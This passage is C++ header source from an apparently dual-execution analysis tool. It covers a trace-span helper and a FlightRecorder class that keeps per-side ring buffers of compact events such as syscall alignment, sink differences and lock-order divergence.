 * query (queue-wait, cache-probe, dual-execution) correlates across
 * lanes in the merged trace. No-op when @p sink is null.
 */
inline void
emitSpan(TraceSink *sink, const std::string &name,
         std::uint64_t spanId, int lane, std::int64_t tsUs,
         std::int64_t durUs)
{
    if (!sink)
        return;
    TraceRecord rec;
    rec.name = name;
    rec.phase = durUs >= 0 ? 'X' : 'i';
    rec.lane = lane;
    rec.tid = 0;
    rec.tsUs = tsUs;
    rec.durUs = durUs >= 0 ? durUs : 0;
    rec.numArgs.emplace_back("span",
                             static_cast<std::int64_t>(spanId));
    sink->emit(rec);
}

} // namespace ldx::obs
