/**
 * @file
 * obs::FlightRecorder — an always-on, per-side ring buffer of compact
 * dual-execution events.
 *
 * The recorder is the forensic counterpart of the metrics registry:
 * counters say *how many* decouples/diffs/stalls a run had, the
 * flight recorder says *which* — each slow-path protocol action
 * (syscall alignment verdict, sink rendezvous outcome, barrier
 * pairing, counter push/pop, block/unblock, lock-order event,
 * mutation, trap, watchdog expiry) is appended as one fixed-size
 * record. The predecoded dispatch fast path records nothing, so the
 * recorder's cost is one timestamp + one relaxed fetch_add + one
 * 48-byte store per event that was already paying for a mutex or an
 * atomic — negligible next to the operation it describes.
 *
 * Each side's ring has a single effective writer (that side's driver
 * thread, which runs its VM, kernel, and controller), so slot stores
 * need no per-slot synchronization; the engine snapshots the rings
 * only after both drivers have joined. On overflow the oldest events
 * are overwritten and counted in dropped(), so the newest history —
 * the part that explains the divergence — is always retained.
 */
#pragma once

#include <atomic>
#include <cstdint>
#include <string>
#include <vector>

namespace ldx::obs {

/** What a recorded event describes. */
enum class RecKind : std::uint8_t
{
    SyscallExecute,  ///< master executed and enqueued (Alg. 2)
    SyscallCopy,     ///< slave copied the master's outcome
    SyscallDecouple, ///< slave executed independently (misaligned)
    SinkAligned,     ///< sink rendezvous compared equal
    SinkDiff,        ///< sink rendezvous found a difference
    SinkVanish,      ///< sink had no counterpart in the peer
    BarrierPair,     ///< loop backedge rendezvous paired
    BarrierSkip,     ///< backedge passed unpaired (divergence)
    CounterPush,     ///< counter saved (indirect/recursive call, §6)
    CounterPop,      ///< counter restored
    Block,           ///< a wait began (arg = wait gate kind)
    Unblock,         ///< the wait resolved (arg = polls spent)
    LockShare,       ///< slave followed the master's lock order (§7)
    LockDiverge,     ///< lock order diverged; mutex tainted
    Mutation,        ///< a source resource was mutated / pre-tainted
    Output,          ///< kernel journaled an output (arg = payload hash)
    ThreadStart,     ///< VM context created
    ThreadDone,      ///< VM context finished
    Trap,            ///< VM trapped (memory fault, ...)
    WatchdogExpire,  ///< a wait's progress watchdog gave up
};

/** Stable machine-readable slug of an event kind ("decouple", ...). */
const char *recKindName(RecKind kind);

/** True for kinds that mark the two executions as having diverged. */
bool recKindDivergent(RecKind kind);

/** One compact flight-recorder event (fixed size, no ownership). */
struct RecEvent
{
    std::int64_t tsUs = 0;    ///< obs::nowUs() shared timeline
    std::uint64_t seq = 0;    ///< per-side sequence (never wraps)
    RecKind kind = RecKind::SyscallExecute;
    std::uint8_t side = 0;    ///< 0 = master, 1 = slave
    std::uint16_t tid = 0;
    std::int32_t site = -1;   ///< syscall/barrier site (-1 none)
    std::int64_t cnt = 0;     ///< counter value at the event
    std::int64_t sysNo = -1;  ///< syscall number (-1 none)
    std::uint64_t arg = 0;    ///< kind-specific payload (see RecKind)
};

/** FNV-1a digest used for hashed payloads/keys in events. */
inline std::uint64_t
fnv1a(const std::string &bytes)
{
    std::uint64_t h = 0xcbf29ce484222325ULL;
    for (char c : bytes) {
        h ^= static_cast<unsigned char>(c);
        h *= 0x100000001b3ULL;
    }
    return h;
}

/** Two fixed-capacity event rings, one per execution side. */
class FlightRecorder
{
  public:
    static constexpr std::size_t kDefaultCapacity = 8192;

    explicit FlightRecorder(std::size_t capacity = kDefaultCapacity)
        : cap_(capacity ? capacity : 1)
    {
        rings_[0].slots.resize(cap_);
        rings_[1].slots.resize(cap_);
    }

    std::size_t capacity() const { return cap_; }

    /**
     * Append @p evt to @p side's ring, stamping its timestamp and
     * sequence number. Oldest events are overwritten on overflow.
     */
    void record(int side, RecEvent evt);

    /** Events ever recorded on @p side (including overwritten). */
    std::uint64_t
    total(int side) const
    {
        return rings_[side & 1].head.load(std::memory_order_acquire);
    }

    /** Events lost to ring overwrite on @p side. */
    std::uint64_t
    dropped(int side) const
    {
        std::uint64_t t = total(side);
        return t > cap_ ? t - cap_ : 0;
    }

    /**
     * Copy @p side's surviving events, oldest first. Call only after
     * the side's driver has quiesced (the engine snapshots after
     * joining both drivers).
     */
    std::vector<RecEvent> snapshot(int side) const;

  private:
    /**
     * Cache-line aligned: the two sides' drivers append concurrently,
     * and heads sharing a line would bounce it on every event.
     */
    struct alignas(64) Ring
    {
        std::atomic<std::uint64_t> head{0};
        std::vector<RecEvent> slots;
    };

    std::size_t cap_;
    Ring rings_[2];
};

} // namespace ldx::obs
